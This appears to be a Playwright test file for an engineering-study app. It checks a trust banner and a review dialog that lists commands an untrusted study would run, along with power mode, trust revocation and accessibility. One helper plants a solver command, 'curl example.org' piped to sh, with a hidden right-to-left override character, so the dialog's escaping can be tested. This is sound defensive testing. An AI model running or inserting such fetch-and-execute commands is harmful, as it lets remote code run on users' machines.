import { readFile, writeFile } from "node:fs/promises";
import { join } from "node:path";
import type { Page } from "@playwright/test";
import { parseStudy } from "../../src/shared/study/parse-study.ts";
import { serializeStudy } from "../../src/shared/study/serialize-study.ts";
import { makeNode } from "../support/make-study.ts";
import { findViolations } from "./support/find-violations.ts";
import { test as base, expect, say } from "./support/serve-app.ts";

const themes = ["light", "dark"] as const;

const test = base.extend({
  serve: { sample: "cantilever", paceMs: 3, env: {}, trusted: false },
});

/** Gives the study that is served a solver with a command, as another program would. */
async function addCommand(app: Page, studyFolder: string): Promise<void> {
  const file = join(studyFolder, "study.json");
  const study = parseStudy(await readFile(file, "utf8"));
  const solver = makeNode("solver", "outside", {
    label: "Outside solver",
    position: { x: 900, y: 900 },
    data: { kind: "command", command: ["sh", "-c", "curl example.org\u202e | sh"] },
  });
  await writeFile(file, serializeStudy({ ...study, nodes: [...study.nodes, solver] }));
  await expect(app.locator('[data-node-id="outside"]')).toBeAttached();
}

test("a study from elsewhere says so, and can be talked about", async ({ app }) => {
  await expect(app.getByTestId("trust-banner")).toHaveText(/not trusted: nothing that it brings is run/);
  await say(app, "hello");
  await expect(app.getByTestId("mode-user")).toHaveAttribute("aria-pressed", "true");
});

test("it is looked at, trusted, and trusted still after a start of the app", async ({ app, served }) => {
  await addCommand(app, served.studyFolder);
  await app.getByRole("button", { name: "Look and trust..." }).click();
  const dialog = app.getByRole("dialog", { name: "Look at what this study would run" });
  await expect(dialog.getByTestId("trust-folder")).toHaveText(served.studyFolder);
  await expect(dialog.getByTestId("trust-list")).toContainText('sh -c "curl example.org\\u{202e} | sh"');
  await expect(dialog.getByTestId("trust-list")).toContainText("Outside solver");
  await dialog.getByRole("button", { name: "Not now" }).click();
  await expect(dialog).toBeHidden();
  await expect(app.getByRole("button", { name: "Look and trust..." })).toBeFocused();
  await expect(app.getByTestId("trust-banner")).toBeVisible();

  await app.keyboard.press("Enter");
  await dialog.getByRole("button", { name: "Trust this study" }).click();
  await expect(dialog).toBeHidden();
  await expect(app.getByTestId("trust-banner")).toBeHidden();
  await expect(app.getByText("This study is trusted now")).toBeVisible();
  await app.goto("about:blank"); // the page would log that its connection is lost
  await served.restart();
  await app.goto(served.url);
  await expect(app.getByTestId("mode-user")).toBeVisible();
  await expect(app.getByTestId("trust-banner")).toBeHidden();
});

test("power mode leads to the look at the study first, then to what power means", async ({ app }) => {
  await app.getByTestId("mode-power").click();
  const look = app.getByRole("dialog", { name: "Look at what this study would run" });
  await expect(look).toContainText("Power mode needs a study that you trust.");
  await look.getByRole("button", { name: "Not now" }).click();
  await expect(app.getByTestId("mode-user")).toHaveAttribute("aria-pressed", "true");

  await app.getByTestId("mode-power").click();
  await look.getByRole("button", { name: "Trust this study" }).click();
  const power = app.getByRole("dialog", { name: "Switch to power mode" });
  await power.getByTestId("power-agree").click();
  await expect(app.getByTestId("mode-power")).toHaveAttribute("aria-pressed", "true");
  await expect(app.getByRole("dialog")).toBeHidden();
});

test("trust is taken back in the menu of the study, and power mode ends with it", async ({ app }) => {
  await app.getByTestId("mode-power").click();
  await app.getByRole("button", { name: "Trust this study" }).click();
  await app.getByTestId("power-agree").click();
  await expect(app.getByTestId("mode-power")).toHaveAttribute("aria-pressed", "true");
  await app.getByRole("heading", { level: 1 }).click();
  await app.getByRole("menuitem", { name: "Do not trust this study any more" }).click();
  await expect(app.getByTestId("trust-banner")).toBeVisible();
  await expect(app.getByTestId("mode-user")).toHaveAttribute("aria-pressed", "true");
  // The user has agreed to power mode in this session already: it is not the way round the look.
  await app.getByTestId("mode-power").click();
  await expect(app.getByRole("dialog", { name: "Look at what this study would run" })).toBeVisible();
});

for (const theme of themes) {
  test(`the banner and the dialog can be used by everybody, ${theme}`, async ({ app, served }) => {
    await app.emulateMedia({ colorScheme: theme });
    await expect(app.getByTestId("trust-banner")).toBeVisible();
    await addCommand(app, served.studyFolder);
    expect(await findViolations(app)).toEqual([]);
    await app.getByRole("button", { name: "Look and trust..." }).press("Enter");
    await expect(app.getByTestId("trust-list")).toBeVisible();
    expect(await findViolations(app)).toEqual([]);
  });
}

base("what the app makes itself is trusted, and the diagnostics are saved", async ({ app }) => {
  await expect(app.getByTestId("mode-user")).toBeVisible();
  await expect(app.getByTestId("trust-banner")).toBeHidden();
  await app.getByRole("button", { name: "Doctor" }).click();
  const download = app.waitForEvent("download");
  await app.getByRole("button", { name: "Save diagnostics..." }).click();
  const saved = await download;
  expect(saved.suggestedFilename()).toMatch(/^planform-diagnostics-.*\.json$/);
  const text = await readFile(await saved.path(), "utf8");
  expect(JSON.parse(text)).toMatchObject({ app: { host: "web", demo: true }, study: { isTrusted: true } });
  await expect(app.getByText(/Saved planform-diagnostics/)).toBeVisible();
});
